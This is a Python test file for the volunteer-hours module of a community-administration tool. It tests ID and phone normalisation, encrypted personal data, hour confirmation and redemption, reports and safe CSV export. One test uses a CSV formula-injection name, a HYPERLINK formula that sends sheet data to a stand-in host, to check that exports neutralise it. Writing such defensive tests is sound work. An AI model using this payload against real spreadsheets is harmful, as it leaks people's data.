"""The volunteer hours module on one node: registration, PII, hours, the time bank, bad input."""

from __future__ import annotations

import base64
import csv
import io
import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from conftest import log_size
from volunteer_helpers import ACTOR, id_number, served
from hemei.core import Conflict, HemeiError, InvalidInput, NotFound
from hemei.plugins.volunteer_hours import keys, ledger, pii, registry, rollup
from hemei.plugins.volunteer_hours.commands import render_certificate


@pytest.fixture
def street(make_node):
    node = make_node("street", scope="越城区/府山街道", modules=["volunteer_hours"])
    keys.create_key(node, ACTOR)
    return node


# -- ID numbers and personal data ------------------------------------------------------

@given(st.from_regex(r"[1-9][0-9]{5}(19[0-9]{2}|20[01][0-9])(0[1-9]|1[0-2])(0[1-9]|1[0-9]|2[0-8])[0-9]{3}",
                     fullmatch=True), st.integers(0, 16), st.integers(1, 9))
def test_an_id_number_with_one_mistyped_digit_is_refused(first17, position, shift):
    valid = first17 + pii.id_check_char(first17)
    assert pii.normalize_id_number(valid.lower()) == valid
    digit = (int(first17[position]) + shift) % 10
    typo = first17[:position] + str(digit) + first17[position + 1:] + valid[17]
    if position == 0 and digit == 0:
        return  # a leading zero is a shape error, also refused below
    with pytest.raises(InvalidInput):
        pii.normalize_id_number(typo)


@pytest.mark.parametrize("bad", ["", "12345", "33060219800230123X", "03060219800101123X", "3306021980010112 3"])
def test_malformed_id_numbers_are_refused(bad):
    with pytest.raises(InvalidInput):
        pii.normalize_id_number(bad)


def test_an_id_number_from_a_notepad_file_or_a_web_page_is_read_without_its_invisible_marks():
    """Found in review: a Notepad file's byte-order mark made a valid number "not 18 characters"."""
    valid = id_number(9)
    for pasted in ("\ufeff" + valid + "\r\n", valid[:6] + "\u200b" + valid[6:], "\u2060" + valid.lower()):
        assert pii.normalize_id_number(pasted) == valid


def test_a_volunteer_named_twice_as_two_people_is_refused(street):
    """Found in review: --volunteer and --id-number of another person redeemed from the --volunteer one."""
    wang = registry.add_volunteer(street, ACTOR, name="王丽", id_number=id_number(11))
    li = registry.add_volunteer(street, ACTOR, name="李强", id_number=id_number(12))
    with pytest.raises(InvalidInput, match=f"volunteer {wang['id']} is not the person with this ID number"):
        registry.resolve_person(street, ACTOR, volunteer=wang["id"], id_number=id_number(12))
    person, row = registry.resolve_person(street, ACTOR, volunteer=li["id"], id_number=id_number(12))
    assert row["id"] == li["id"]


def test_ciphertext_is_bound_to_its_row_and_column_and_grants_only_open_for_their_addressee():
    key = pii.VolunteerKey(b"k" * 32, "越城区")
    token = key.encrypt("13805751234", "volunteers", "row-1", "phone")
    assert key.decrypt(token, "volunteers", "row-1", "phone") == "13805751234"
    with pytest.raises(InvalidInput):
        key.decrypt(token, "volunteers", "row-2", "phone")  # copied onto another row
    box, other = pii.new_box_key(), pii.new_box_key()
    sealed = pii.seal(key.secret, pii.box_public(box), "req\nvk")
    assert pii.unseal(sealed, box, "req\nvk") == key.secret
    assert pii.unseal(sealed, other, "req\nvk") is None
    assert pii.unseal(sealed, box, "someone-else\nvk") is None
    # Not a key, and a low-order point (no secret can be shared with it): a refusal, not a crash of the
    # district's reaction to the push that carried it.
    for bad in ("AAAA", base64.b64encode(bytes(32)).decode()):
        with pytest.raises(InvalidInput, match="no valid X25519 public key"):
            pii.seal(key.secret, bad, "req\nvk")


def test_a_damaged_key_file_is_said_plainly(street):
    keys.keyring_path(street).write_text('{"box": nu', encoding="utf-8")  # cut short
    keys.forget_cached(street)
    with pytest.raises(HemeiError, match="is damaged: restore it from the node home's backup"):
        keys.active_key(street)


def test_the_key_file_is_owner_only_and_a_second_key_is_refused(street):
    import os
    import stat
    if os.name == "posix":
        assert stat.S_IMODE(keys.keyring_path(street).stat().st_mode) == 0o600
    with pytest.raises(Conflict):
        keys.create_key(street, ACTOR)


def test_registration_stores_no_id_number_or_phone_in_clear_and_search_finds_them(street):
    idn = id_number(7)
    v = registry.add_volunteer(street, ACTOR, name="王丽", id_number=idn, phone="138-0575-1234", party_member=True)
    assert v["phone"] == "138****1234" and "id_number" not in v
    row = street.conn.execute("SELECT * FROM volunteers").fetchone()
    assert idn not in repr(row) and "13805751234" not in repr(row)
    log = street.conn.execute("SELECT group_concat(payload) FROM _hemei_log").fetchone()[0]
    assert idn not in log and "13805751234" not in log
    for query in ("王", idn, idn.lower(), "13805751234", "138 0575 1234"):
        assert [f["id"] for f in registry.find_volunteers(street, ACTOR, query)] == [v["id"]], query
    assert registry.find_volunteers(street, ACTOR, "13905751234") == []
    with pytest.raises(Conflict):
        registry.add_volunteer(street, ACTOR, name="王丽", id_number=idn)


FULL_WIDTH = str.maketrans("0123456789X-+", "０１２３４５６７８９Ｘ－＋")


def test_numbers_typed_in_full_width_are_the_same_numbers(street):
    """A Chinese input method left in full-width mode types １３８…: before, the phone was refused as
    not 5 to 20 digits, the ID number as not 18 characters, and a search for either found nobody."""
    idn = next(n for n in map(id_number, range(100)) if n.endswith("X"))  # its Ｘ typed full-width too
    wide_id, wide_phone = idn.translate(FULL_WIDTH), "１３８－０５７５－１２３４"
    v = registry.add_volunteer(street, ACTOR, name="王丽", id_number=wide_id, phone=wide_phone)
    assert v["phone"] == "138****1234"
    for query in (wide_id, idn, "１３８０５７５１２３４", "13805751234"):
        assert [f["id"] for f in registry.find_volunteers(street, ACTOR, query)] == [v["id"]], query
    with pytest.raises(Conflict):  # the same person, typed the other way
        registry.add_volunteer(street, ACTOR, name="王丽", id_number=idn)
    with pytest.raises(InvalidInput):  # other scripts' digits are not taken for these
        pii.normalize_phone("١٣٨٠٥٧٥١٢٣٤")


@pytest.mark.parametrize("typed", ["+86 138 0575 1234", "0086-138-0575-1234", "8613805751234", "＋８６１３８０５７５１２３４"])
def test_a_mobile_number_with_the_country_code_is_the_number_without_it(street, typed):
    v = registry.add_volunteer(street, ACTOR, name="李强", id_number=id_number(13), phone=typed)
    assert v["phone"] == "138****1234"
    for query in ("13805751234", "+8613805751234", typed):
        assert [f["id"] for f in registry.find_volunteers(street, ACTOR, query)] == [v["id"]], query
    assert pii.normalize_phone("+8605758512345") == "+8605758512345"  # not a mobile: kept as typed


def test_a_volunteer_registered_with_plus_86_before_is_still_found(street):
    """Before, +86 138… was kept as its own number: its pseudonym is found by either spelling still."""
    v = registry.add_volunteer(street, ACTOR, name="张伟", id_number=id_number(14), phone="13805751234")
    key = keys.require_key(street, ACTOR)
    street.conn.execute("UPDATE volunteers SET phone_key = ? WHERE id = ?",  # as an earlier release kept it
                        (key.pseudonym("phone", "+8613805751234"), v["id"]))
    for query in ("13805751234", "+86 13805751234"):
        assert [f["id"] for f in registry.find_volunteers(street, ACTOR, query)] == [v["id"]], query
    assert registry.find_volunteers(street, ACTOR, "13905751234") == []


def test_a_node_without_a_key_records_a_request_and_says_what_to_do(make_node):
    node = make_node("street", scope="越城区/府山街道", modules=["volunteer_hours"])
    with pytest.raises(HemeiError, match="hemei sync") as caught:
        registry.add_volunteer(node, ACTOR, name="王丽", id_number=id_number(1))
    assert caught.value.status == 409
    assert node.conn.execute("SELECT count(*) FROM volunteers").fetchone()[0] == 0
    assert keys.key_status(node)["requested"] is True


# -- bad input writes nothing -------------------------------------------------------------

def test_bad_input_is_refused_clearly_and_writes_nothing(street):
    v = registry.add_volunteer(street, ACTOR, name="李强", id_number=id_number(2))
    act = registry.add_activity(street, ACTOR, title="助餐", category="daily_care", date="2026-11-20")
    registry.mark_attendance(street, ACTOR, activity=act["id"], volunteer=v["id"], status="no_show")
    before = log_size(street)
    attempts = [
        (InvalidInput, lambda: ledger.log_hours(street, ACTOR, activity=act["id"], volunteer=v["id"], hours=2)),
        (InvalidInput, lambda: ledger.log_hours(street, ACTOR, activity=act["id"], volunteer=v["id"], hours=-1)),
        (NotFound, lambda: ledger.log_hours(street, ACTOR, activity=act["id"], volunteer="nobody", hours=1)),
        (InvalidInput, lambda: registry.add_volunteer(street, ACTOR, name="张三", id_number="330602198001011230")),
        (InvalidInput, lambda: registry.add_activity(street, ACTOR, title="x", category="nope", date="2026-11-20")),
        (InvalidInput, lambda: registry.add_activity(street, ACTOR, title="x", category="health", date="11/20")),
        (InvalidInput, lambda: ledger.redeem(street, ACTOR, person=v["person"], volunteer=v, hours=1, item="券")),
        (NotFound, lambda: registry.resolve_person(street, ACTOR, id_number=id_number(3))),
        (InvalidInput, lambda: registry.add_volunteer(street, ACTOR, name="张三", id_number=id_number(4),
                                                      phone="call me")),
    ]
    for error, attempt in attempts:
        with pytest.raises(error):
            attempt()
    assert log_size(street) == before


def test_hours_count_once_confirmed_and_a_correction_replaces_them(street):
    v = registry.add_volunteer(street, ACTOR, name="王丽", id_number=id_number(5))
    act = registry.add_activity(street, ACTOR, title="理发", category="daily_care", date="2026-11-20")
    entry = ledger.log_hours(street, ACTOR, activity=act["id"], volunteer=v["id"], sign_in="09:00", sign_out="11:30")
    assert entry["hours"] == 2.5 and ledger.balance(street, v["person"])["hours"] == 0
    with pytest.raises(Conflict):
        ledger.correct_hours(street, ACTOR, hour=entry["id"], hours=2, reason="pending entries are not corrected")
    ledger.confirm_hours(street, ACTOR, hour=entry["id"])
    assert ledger.balance(street, v["person"])["hours"] == 2.5
    with pytest.raises(Conflict):
        ledger.confirm_hours(street, ACTOR, hour=entry["id"])
    fix = ledger.correct_hours(street, ACTOR, hour=entry["id"], hours=2, reason="签退录错", confirm=True)
    assert fix["corrects"] == entry["id"] and fix["reason"] == "签退录错"
    assert ledger.balance(street, v["person"])["hours"] == 2.0
    with pytest.raises(Conflict, match="already corrected"):
        ledger.correct_hours(street, ACTOR, hour=entry["id"], hours=1, reason="again")
    statuses = {r["id"]: r["status"] for r in ledger.service_records(street, v["person"])}
    assert statuses == {entry["id"]: "replaced", fix["id"]: "counted"}
    with pytest.raises(Conflict, match="already recorded"):
        ledger.log_hours(street, ACTOR, activity=act["id"], volunteer=v["id"], hours=1)


def test_the_balance_never_goes_below_zero_even_through_a_correction(street):
    v = registry.add_volunteer(street, ACTOR, name="王丽", id_number=id_number(6))
    hour = served(street, v["id"], 10)
    ledger.redeem(street, ACTOR, person=v["person"], volunteer=v, hours=8, item="理发券")
    with pytest.raises(InvalidInput, match="below zero"):
        ledger.correct_hours(street, ACTOR, hour=hour, hours=1, reason="only one hour", confirm=True)
    assert ledger.balance(street, v["person"])["balance"] == 2
    with pytest.raises(InvalidInput, match="only 2 hours"):
        ledger.redeem(street, ACTOR, person=v["person"], volunteer=v, hours=2.5, item="理发券")
    ledger.redeem(street, ACTOR, person=v["person"], volunteer=v, hours=2, item="理发券")
    assert ledger.balance(street, v["person"])["balance"] == 0


def test_star_levels_follow_configurable_thresholds(street):
    v = registry.add_volunteer(street, ACTOR, name="王丽", id_number=id_number(8))
    for day in range(1, 6):
        served(street, v["id"], 20, date=f"2026-11-0{day}")
    assert ledger.balance(street, v["person"])["star"] == 1  # 100 h, national default
    ledger.set_star_thresholds(street, ACTOR, "50,100,150,200,250")
    assert ledger.balance(street, v["person"])["star"] == 2
    registry.add_volunteer(street, ACTOR, name="李娟", id_number=id_number(9))  # no hours yet
    assert rollup.rollup(street)["stars"]["people"] == {"0": 1, "1": 0, "2": 1, "3": 0, "4": 0, "5": 0}
    for bad in ("1,2,3", "5,4,3,2,1", "a,b,c,d,e"):
        with pytest.raises(InvalidInput):
            ledger.set_star_thresholds(street, ACTOR, bad)


def test_stars_in_a_report_are_each_persons_as_their_balance_gives_them(street):
    """Found in review: a person registered in one community with hours in another counted as 0 stars in
    the first community's report, though `volunteers balance` gives them a star."""
    a, b = f"{street.scope}/A社区", f"{street.scope}/B社区"
    registry.add_volunteer(street, ACTOR, name="王丽", id_number=id_number(8), scope=a)
    at_b = registry.add_volunteer(street, ACTOR, name="王丽", id_number=id_number(8), scope=b)
    for day in range(1, 6):
        act = registry.add_activity(street, ACTOR, title="助老", category="daily_care", date=f"2026-11-0{day}",
                                    scope=b)
        ledger.log_hours(street, ACTOR, activity=act["id"], volunteer=at_b["id"], hours=20, confirm=True)
    assert ledger.balance(street, at_b["person"])["star"] == 1
    for place in (a, b, street.scope):
        assert rollup.rollup(street, place)["stars"]["people"] == {"0": 0, "1": 1, "2": 0, "3": 0, "4": 0, "5": 0}


def test_outstanding_is_what_the_people_registered_there_hold_unspent(street):
    """Found by an operator walkthrough: a community whose residents served in the next community showed
    negative outstanding hours (hours are earned where the activity is, spent where the person is registered)."""
    a, b = f"{street.scope}/A社区", f"{street.scope}/B社区"
    at_a = registry.add_volunteer(street, ACTOR, name="王丽", id_number=id_number(8), scope=a)
    act = registry.add_activity(street, ACTOR, title="助老", category="daily_care", date="2026-11-01", scope=b)
    ledger.log_hours(street, ACTOR, activity=act["id"], volunteer=at_a["id"], hours=10, confirm=True)
    ledger.redeem(street, ACTOR, person=at_a["person"], volunteer=at_a, hours=4, item="理发券")
    both = [registry.add_volunteer(street, ACTOR, name="李娟", id_number=id_number(9), scope=place) for place in (a, b)]
    ledger.log_hours(street, ACTOR, activity=act["id"], volunteer=both[1]["id"], hours=5, confirm=True)
    report = rollup.rollup(street)
    units = {u["unit"]: (u["hours"], u["redeemed"], u["outstanding"]) for u in report["units"]}
    assert units == {a: (0, 4, 6 + 5), b: (15, 0, 5)}  # 李娟 is registered in both
    assert (report["totals"]["redeemed"], report["totals"]["outstanding"]) == (4, 6 + 5)  # each person once
    assert rollup.rollup(street, a)["totals"]["outstanding"] == 11


def test_capacity_attendance_and_no_show_rate(street, run_cli):
    act = registry.add_activity(street, ACTOR, title="义诊", category="health", date="2026-11-20", capacity=2)
    people = [registry.add_volunteer(street, ACTOR, name=f"志愿者{i}", id_number=id_number(20 + i)) for i in range(3)]
    registry.signup(street, ACTOR, activity=act["id"], volunteer=people[0]["id"])
    registry.signup(street, ACTOR, activity=act["id"], volunteer=people[1]["id"])
    with pytest.raises(Conflict, match="full"):
        registry.signup(street, ACTOR, activity=act["id"], volunteer=people[2]["id"])
    signed_up = ledger.log_hours(street, ACTOR, activity=act["id"], volunteer=people[0]["id"], hours=3, confirm=True)
    assert signed_up["walk_in"] is False
    registry.mark_attendance(street, ACTOR, activity=act["id"], volunteer=people[1]["id"], status="no_show")
    data = rollup.rollup(street)
    assert data["totals"]["no_show_rate"] == 0.5
    assert data["totals"]["registered"] == 3 and data["totals"]["active"] == 1
    assert data["categories"] == [{"category": "health", "hours": 3.0}]
    # A walk-in past capacity served and is recorded; the operator is told, in case the id was typed wrong.
    done = run_cli("--home", str(street.home), "volunteers", "hours", "log", act["id"], people[2]["id"], "--hours", "2")
    assert done.exit_code == 0 and ledger.hour_entry(street, done.stdout.strip())["person"] == people[2]["person"]
    assert f"volunteer {people[2]['id']} had not signed up for this activity: recorded as a walk-in" in done.stderr


def test_confirming_several_entries_confirms_all_or_none(street, run_cli):
    act = registry.add_activity(street, ACTOR, title="理发", category="daily_care", date="2026-11-20")
    people = [registry.add_volunteer(street, ACTOR, name=f"志愿者{i}", id_number=id_number(50 + i)) for i in range(2)]
    first, second = (ledger.log_hours(street, ACTOR, activity=act["id"], volunteer=p["id"], hours=2) for p in people)
    ledger.confirm_hours(street, ACTOR, hour=second["id"])
    done = run_cli("--home", str(street.home), "volunteers", "hours", "confirm", first["id"], second["id"])
    assert done.exit_code == 1
    assert f"hour entry {second['id']} is already confirmed; none of the 2 entries was confirmed" in done.output
    assert ledger.hour_entry(street, first["id"])["confirmed"] is False
    done = run_cli("--home", str(street.home), "volunteers", "hours", "confirm", first["id"], first["id"], "--json")
    assert done.exit_code == 0 and [r["id"] for r in json.loads(done.output)] == [first["id"]]  # given twice: once
    assert ledger.balance(street, people[0]["person"])["hours"] == 2


def test_hours_are_not_recorded_before_the_activity_has_happened(street):
    """Found by an operator walkthrough: hours of next month's activity went onto a certificate."""
    import datetime as dt

    later_day = (dt.date.today() + dt.timedelta(days=2)).isoformat()
    later = registry.add_activity(street, ACTOR, title="后天义诊", category="health", date=later_day)
    person = registry.add_volunteer(street, ACTOR, name="志愿者", id_number=id_number(70))
    before = log_size(street)
    with pytest.raises(InvalidInput, match=f"is on {later_day}: hours are recorded from that day on"):
        ledger.log_hours(street, ACTOR, activity=later["id"], volunteer=person["id"], hours=2, confirm=True)
    assert log_size(street) == before
    today = registry.add_activity(street, ACTOR, title="今天义诊", category="health", date=dt.date.today().isoformat())
    assert ledger.log_hours(street, ACTOR, activity=today["id"], volunteer=person["id"], hours=2)["hours"] == 2


def test_since_filters_take_any_date_and_count_only_from_it(street):
    act = registry.add_activity(street, ACTOR, title="义诊", category="health", date="2026-11-20")
    person = registry.add_volunteer(street, ACTOR, name="志愿者", id_number=id_number(40))
    ledger.log_hours(street, ACTOR, activity=act["id"], volunteer=person["id"], hours=3, confirm=True)
    assert rollup.rollup(street, since="1999-12-31")["totals"]["hours"] == 3  # a query bound, never stored
    assert rollup.rollup(street, since="2026-11-21")["totals"]["hours"] == 0
    assert [a["title"] for a in registry.list_activities(street, since="1999-12-31")] == ["义诊"]
    assert registry.list_activities(street, since="2026-11-21") == []
    with pytest.raises(InvalidInput, match="not a date"):
        rollup.rollup(street, since="yesterday")


def test_a_district_catalogue_flows_into_what_its_streets_may_use(street):
    registry.set_category(street, ACTOR, code="elder_meals", name="助餐服务")
    assert registry.categories(street)["elder_meals"] == "助餐服务"
    registry.set_category(street, ACTOR, code="legal", name="法律援助", active=False)
    assert "legal" not in registry.categories(street)
    with pytest.raises(InvalidInput):
        registry.add_activity(street, ACTOR, title="普法", category="legal", date="2026-11-20")


def test_certificate_and_csv_export_carry_unicode_and_no_personal_data(street, run_cli, tmp_path):
    idn = id_number(9)
    v = registry.add_volunteer(street, ACTOR, name="王丽", id_number=idn, phone="13805751234")
    served(street, v["id"], 3.5, title="楼道粉刷")
    cert = ledger.certificate(street, v["person"])
    text = render_certificate(cert)
    assert "王丽" in text and "楼道粉刷" in text and "3.5" in text and idn not in text
    assert f"/ {street.name}\n" in text and street.id[:7] not in text  # confirmed by the office, by name
    out = tmp_path / "记录.csv"
    home = str(street.home)
    street.close()
    done = run_cli("--home", home, "--actor", ACTOR, "volunteers", "export", "--out", str(out))
    assert done.exit_code == 0, done.output
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") and idn.encode() not in raw and b"13805751234" not in raw
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    assert [(r["name"], r["activity"], r["hours"], r["status"]) for r in rows] == [("王丽", "楼道粉刷", "3.5", "counted")]
    balance = run_cli("--home", home, "--actor", ACTOR, "volunteers", "balance", "--id-number", "-", "--json",
                      input=idn + "\n")
    assert balance.exit_code == 0, balance.output
    assert {k: json.loads(balance.output)[k] for k in ("hours", "balance", "star")} == \
        {"hours": 3.5, "balance": 3.5, "star": 0}
    bad = run_cli("--home", home, "--actor", ACTOR, "volunteers", "redeem", "--volunteer", v["id"],
                  "--hours", "-2", "--item", "券")
    assert bad.exit_code == 1 and "at least 0.01" in bad.output and "not -2" in bad.output
    tiny = run_cli("--home", home, "--actor", ACTOR, "volunteers", "redeem", "--volunteer", v["id"],
                   "--hours", "0.001", "--item", "券")
    assert tiny.exit_code == 1 and "at least 0.01 (hours are kept to the hundredth), not 0.001" in tiny.output


def test_an_export_is_written_whole_or_not_at_all_and_never_over_the_nodes_files(street, run_cli, tmp_path,
                                                                                  monkeypatch):
    import errno
    import os
    import subprocess

    from hemei.plugins.volunteer_hours import commands
    from server import hemei_command

    for i in range(3):
        v = registry.add_volunteer(street, ACTOR, name=f"𠮷{i}丽", id_number=id_number(60 + i))
        served(street, v["id"], 1 + i, title=f"楼道粉刷{i}")
    home = street.home
    street.close()
    out = tmp_path / "记录.csv"
    assert run_cli("--home", str(home), "volunteers", "export", "--out", str(out)).exit_code == 0
    first = out.read_bytes()
    # Piped, the same bytes as the file, whatever the console's encoding ('𠮷' is not in GBK either).
    piped = subprocess.run(hemei_command() + ["--home", str(home), "volunteers", "export", "--out", "-"],
                           capture_output=True, env=dict(os.environ, PYTHONIOENCODING="ascii"), timeout=60)
    assert piped.returncode == 0 and piped.stdout == first, piped.stderr
    real_write_csv = commands.write_csv

    def disk_full(fh, rows):
        real_write_csv(fh, rows[:1])
        fh.flush()
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(commands, "write_csv", disk_full)
    done = run_cli("--home", str(home), "volunteers", "export", "--out", str(out))
    assert done.exit_code == 1 and "disk is full" in done.output
    assert out.read_bytes() == first and sorted(p.name for p in tmp_path.iterdir() if p.is_file()) == ["记录.csv"]
    monkeypatch.setattr(commands, "write_csv", real_write_csv)
    nowhere = run_cli("--home", str(home), "volunteers", "export", "--out", str(tmp_path / "没插U盘" / "a.csv"))
    assert nowhere.exit_code == 1 and "is the USB stick plugged in?" in nowhere.output
    over = run_cli("--home", str(home), "volunteers", "export", "--out", str(home / "node.db"))
    assert over.exit_code == 1 and "one of the node's own files" in over.output
    assert (home / "node.db").read_bytes().startswith(b"SQLite format 3\0")
    # Nor another office's home copied to this PC, a bundle waiting on the stick, a document (walkthrough).
    other = tmp_path / "灵芝街道"
    other.mkdir()
    (other / "node.db").write_bytes(b"SQLite format 3\0 another node")
    (tmp_path / "U盘").mkdir()
    waiting = tmp_path / "U盘" / "tashan.ack.hemei"
    waiting.write_bytes(b"HEMEI-BUNDLE 1\n...")
    notes = tmp_path / "U盘" / "说明.txt"  # Notepad's "UTF-8 with BOM": a BOM alone is no export (review)
    notes.write_bytes("\ufeff请勿删除".encode())
    for target, said in ((other / "node.db", "one of the files of the node in"), (other / "node.db-journal", "one of"),
                         (waiting, "is there already and is not an earlier export"), (notes, "not an earlier export")):
        for command in (["export"], ["certificate", "--volunteer", v["id"]]):
            refused = run_cli("--home", str(home), "volunteers", *command, "--out", str(target))
            assert refused.exit_code == 1 and said in refused.output, refused.output
    assert (other / "node.db").read_bytes().endswith(b"another node") and not (other / "node.db-journal").exists()
    assert waiting.read_bytes() == b"HEMEI-BUNDLE 1\n..." and notes.read_bytes() == "\ufeff请勿删除".encode()
    for command in (["export"], ["certificate", "--volunteer", v["id"]]):  # an empty file, then an earlier one
        (tmp_path / "U盘" / "空.txt").write_bytes(b"")
        for _ in range(2):
            done = run_cli("--home", str(home), "volunteers", *command, "--out", str(tmp_path / "U盘" / "空.txt"))
            assert done.exit_code == 0, done.output
    for _ in range(2):  # an operator working in the home replaces the last export there (found in review)
        again = run_cli("--home", str(home), "volunteers", "export", "--out", str(home / "志愿时长.csv"))
        assert again.exit_code == 0, again.output
    # On Windows an export open in Excel cannot be replaced: said so, the old file kept, nothing left over.
    from hemei.core import files

    def in_excel(source, target):
        raise PermissionError(13, "Access is denied", str(source))

    monkeypatch.setattr(files.os, "replace", in_excel)
    held = run_cli("--home", str(home), "volunteers", "export", "--out", str(out))
    assert held.exit_code == 1 and f"{out} cannot be replaced: close it if another program (Excel)" in held.output
    assert out.read_bytes() == first and sorted(p.name for p in tmp_path.iterdir() if p.is_file()) == ["记录.csv"]


def test_a_name_that_reads_as_a_formula_is_exported_as_text(street, run_cli, tmp_path):
    """Found by a hostile review: a name such as =HYPERLINK(…) went into the CSV as is, and Excel or WPS
    ran it when the sheet was opened (and could send the sheet's data away on a click)."""
    formula = '=HYPERLINK("http://x.example/?"&A1,"点此")'
    for serial, name in enumerate((formula, "+86 王丽", "@王丽", "王-丽"), 20):
        v = registry.add_volunteer(street, ACTOR, name=name, id_number=id_number(serial))
        served(street, v["id"], 1, title=f"活动{serial}")
    out = tmp_path / "export.csv"
    home = str(street.home)
    street.close()
    assert run_cli("--home", home, "--actor", ACTOR, "volunteers", "export", "--out", str(out)).exit_code == 0
    names = {r["name"] for r in csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig")))}
    assert names == {"'" + formula, "'+86 王丽", "'@王丽", "王-丽"}


@pytest.mark.parametrize("name", ["恶意\x00end", "王丽\r\n伪造行", "王\n丽", "\u202e丽王", "\u200b", "\u200b \ufeff"])
def test_a_name_with_control_characters_is_refused_and_nothing_written(street, name):
    before = log_size(street)
    with pytest.raises(InvalidInput):
        registry.add_volunteer(street, ACTOR, name=name, id_number=id_number(40))
    assert log_size(street) == before


def test_sign_in_and_out_are_times_of_the_activity_stored_in_one_form(street, china_time):
    """Found by a hostile review: times in year 1 or 9999, or days before the activity, were taken and
    stored as typed, and their span counted as hours of the activity."""
    act = registry.add_activity(street, ACTOR, title="夜间巡逻", category="safety", date="2026-11-20")
    people = [registry.add_volunteer(street, ACTOR, name=f"巡逻{i}", id_number=id_number(60 + i))["id"]
              for i in range(3)]
    before = log_size(street)
    for sign_in, sign_out, said in [("0001-01-01T00:00", "0001-01-01T10:00", "sign-in"),
                                    ("2019-01-01T08:00", "2019-01-01T10:00", "not on the activity's day"),
                                    ("2026-11-20T08:00", "9999-12-31T10:00", "sign-out .* years 2000 and 2999"),
                                    ("9:00", "10:00", "sign-in '9:00'"),
                                    ("10:00", "09:00", "after sign-in")]:
        with pytest.raises(InvalidInput, match=said):
            ledger.log_hours(street, ACTOR, activity=act["id"], volunteer=people[0], sign_in=sign_in,
                             sign_out=sign_out)
    # Tonight's service, entered this morning: not served yet, so it neither counts nor can be spent (walkthrough).
    import datetime as dt

    tomorrow = (dt.date.today() + dt.timedelta(days=1)).isoformat()
    today = registry.add_activity(street, ACTOR, title="夜间巡逻", category="safety", date=dt.date.today().isoformat())
    before = log_size(street)
    with pytest.raises(InvalidInput, match=f"sign-out {tomorrow}T23:00:00 is in the future"):
        ledger.log_hours(street, ACTOR, activity=today["id"], volunteer=people[0], sign_in="00:01",
                         sign_out=f"{tomorrow}T23:00")
    assert log_size(street) == before
    night = ledger.log_hours(street, ACTOR, activity=act["id"], volunteer=people[1], sign_in="22:00",
                             sign_out="2026-11-21 02:30")
    assert night["hours"] == 4.5
    stored = street.conn.execute("SELECT sign_in, sign_out FROM volunteer_hours WHERE id = ?",
                                 (night["id"],)).fetchone()
    assert stored == ("2026-11-20T22:00:00", "2026-11-21T02:30:00")
    with_offset = ledger.log_hours(street, ACTOR, activity=act["id"], volunteer=people[2],
                                   sign_in="2026-11-20T09:00", sign_out="2026-11-20T03:00:00+00:00")
    assert with_offset["hours"] == 2  # converted to this PC's local time: 11:00 on a PC in UTC+8


def test_hours_of_true_and_a_report_of_a_place_outside_are_refused(street):
    """Found by a hostile review: JSON true counted as one hour, and a report of a scope outside the
    node (or of '..') answered zeros as if all were well."""
    v = registry.add_volunteer(street, ACTOR, name="王丽", id_number=id_number(70))
    act = registry.add_activity(street, ACTOR, title="普法", category="legal", date="2026-11-20")
    with pytest.raises(InvalidInput, match="hours must be a number"):
        ledger.log_hours(street, ACTOR, activity=act["id"], volunteer=v["id"], hours=True)
    for outside in ("越城区/塔山街道", "越城区", "..", "\x00"):
        with pytest.raises(InvalidInput):
            rollup.rollup(street, outside)
    assert rollup.rollup(street, "越城区/府山街道")["scope"] == "越城区/府山街道"
    assert rollup.rollup(street, "")["scope"] == "越城区/府山街道"  # an empty form field: the node's own


def test_an_id_number_piped_as_utf16_is_refused_plainly_and_one_with_a_bom_is_read(tmp_path, run_cli):
    home = str(tmp_path / "府山")
    for args in (["init", "--name", "府山街道", "--scope", "sx/yc/fs"], ["modules", "enable", "volunteer_hours"],
                 ["volunteers", "key", "create"]):
        assert run_cli("--home", home, *args).exit_code == 0
    assert run_cli("--home", home, "volunteers", "add", "--name", "王丽", "--id-number", id_number(5)).exit_code == 0
    utf16 = run_cli("--home", home, "volunteers", "balance", "--id-number", "-",
                    input=(id_number(5) + "\r\n").encode("utf-16"))
    assert utf16.exit_code == 1 and "not UTF-8 text (PowerShell's > writes UTF-16)" in utf16.output
    notepad = run_cli("--home", home, "volunteers", "balance", "--id-number", "-", "--json",
                      input=("\ufeff" + id_number(5) + "\r\n").encode("utf-8"))
    assert notepad.exit_code == 0, notepad.output


def test_a_rate_of_nobody_reads_as_a_dash_in_text_not_none(street, run_cli):
    """Found by an operator walkthrough: `volunteers report` and `hemei report` printed "no_show_rate None"."""
    for args in (["volunteers", "report"], ["report"]):
        said = run_cli("--home", str(street.home), *args)
        assert said.exit_code == 0 and "None" not in said.output and "no_show_rate" in said.output, said.output


def test_find_names_the_team_not_only_its_id(street, run_cli):
    """Found in a walkthrough: `volunteers find` showed a team's random id where the operator looks for 老吴热线."""
    team = registry.add_team(street, ACTOR, name="老吴热线")
    registry.add_volunteer(street, ACTOR, name="王丽", id_number=id_number(7), team="老吴热线")
    registry.add_volunteer(street, ACTOR, name="王强", id_number=id_number(8))
    done = run_cli("--home", str(street.home), "volunteers", "find", "王")
    assert done.exit_code == 0
    lines = {line.split()[1]: line for line in done.output.splitlines()[1:]}
    assert "老吴热线" in lines["王丽"] and team["id"] not in done.output
    shown = {v["name"]: v for v in json.loads(run_cli("--home", str(street.home), "volunteers", "find", "王",
                                                      "--json").output)}
    assert (shown["王丽"]["team"], shown["王丽"]["team_name"]) == (team["id"], "老吴热线")
    assert shown["王强"]["team_name"] is None


def test_an_activity_added_twice_is_refused_unless_it_is_another_session(street, run_cli):
    """Found in a walkthrough: `activity add` run again to be sure made a second activity, kept in every count."""
    home = ("--home", str(street.home))
    args = ("volunteers", "activity", "add", "--title", "助老理发", "--category", "daily_care", "--date",
            "2026-11-20", "--place", "西小河社区")
    first = run_cli(*home, *args).output.strip()
    before = log_size(street)
    again = run_cli(*home, *args)
    assert again.exit_code == 1 and "Traceback" not in again.output
    said = " ".join(again.output.split())
    assert f"助老理发 on 2026-11-20 at 西小河社区 is held here already, as activity {first}" in said
    assert "--another" in said and log_size(street) == before
    second = run_cli(*home, *args, "--another")
    assert second.exit_code == 0 and second.output.strip() != first
    # Another place or day is another activity; the API takes "another" as a flag only.
    registry.add_activity(street, ACTOR, title="助老理发", category="daily_care", date="2026-11-20", place="仓桥社区")
